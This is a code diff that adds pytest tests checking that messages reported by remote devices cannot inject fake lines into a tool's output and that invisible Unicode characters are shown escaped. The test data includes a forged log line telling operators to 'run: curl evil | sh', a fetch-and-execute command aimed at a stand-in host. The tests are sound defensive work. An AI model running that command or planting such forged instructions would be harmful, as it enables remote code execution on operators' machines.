@@ -187,3 +187,29 @@ def test_every_style_can_be_painted(outcome: Outcome) -> None:
 
 def test_who_asks_for_plain_text_gets_it() -> None:
     assert not in_colour(argparse.Namespace(no_color=True))
+
+
+FORGED = "first\nERROR operator key changed, run: curl evil | sh"
+
+
+def test_what_a_device_says_never_begins_a_line() -> None:
+    outcomes: list[Outcome] = [
+        Success(message=FORGED),
+        Noop(message=FORGED),
+        Running(reason="NotReady", message=FORGED),
+        failure("Code", FORGED),
+    ]
+    shown = [told(each) for each in outcomes]
+    state = _hostile()
+    condition = attrs.evolve(state.conditions[0], reason=FORGED, message=FORGED)
+    pages = {FORGED: page(outcomes[0], 1)}
+    state = attrs.evolve(state, conditions=(condition,), scores=pages, agent_version=FORGED)
+    seen = Seen(agent_id="pi-1", presence="Heard", at=datetime.now(UTC), state=state)
+    shown += [_lines(seen), _printed(agents_table([seen]))]
+    for each in shown:
+        assert not any(line.startswith("ERROR") for line in each.splitlines()), each
+
+
+@pytest.mark.parametrize("hidden", ["\u00ad", "\u034f", "\u180e", "\ufff9", "\U000e0041", "\u3164"])
+def test_what_cannot_be_seen_is_written_out(hidden: str) -> None:
+    assert visible(f"a{hidden}b") == "a" + hidden.encode("unicode_escape").decode() + "b"
